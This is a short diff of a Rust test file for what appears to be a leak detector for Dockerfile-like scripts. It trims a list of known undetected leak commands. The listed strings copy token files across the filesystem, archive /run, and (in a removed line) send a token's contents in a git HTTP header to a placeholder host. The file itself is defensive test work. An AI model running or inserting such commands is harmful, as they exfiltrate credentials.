@@ -26,11 +26,7 @@ fn verdict(text: &str) -> Result<Script, dockerfile_dsl::Error> {
 }
 
 /// Leaks that are accepted today: what the analysis does not see yet.
-const GAPS: &[&str] = &[
-    "test -s {TOKEN}; find / -name TOKEN -exec cp '{}' /x ';'",
-    "test -s {TOKEN}; tar -C / -cf /x.tar run",
-    "git -c http.extraHeader=\"A: $(cat {TOKEN})\" {text} https://x",
-];
+const GAPS: &[&str] = &["test -s {TOKEN}; find / -name TOKEN -exec cp '{}' /x ';'"];
 
 /// All at once, so that one run shows every gap.
 #[track_caller]
